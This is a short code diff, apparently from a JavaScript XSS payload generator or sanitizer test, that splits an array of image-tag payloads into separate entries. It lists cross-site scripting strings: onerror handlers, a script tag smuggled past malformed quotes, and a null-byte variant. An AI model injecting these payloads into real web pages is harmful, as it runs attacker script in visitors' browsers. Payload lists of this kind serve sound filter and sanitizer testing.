@@ -63,7 +63,9 @@ const elements = [
 ]
 
 const handlers = [
-  ...[`<img src=x onerror=${run}>`, `<img/src=x/onerror=${run}>`, `<img src=x:x onerror="${run}">`],
+  `<img src=x onerror=${run}>`,
+  `<img/src=x/onerror=${run}>`,
+  `<img src=x:x onerror="${run}">`,
   `<img src=x onerror=\`${run}\`>`,
   `<img """><script>${run}</script>">`,
   `<img src=x\u0000onerror=${run}>`,
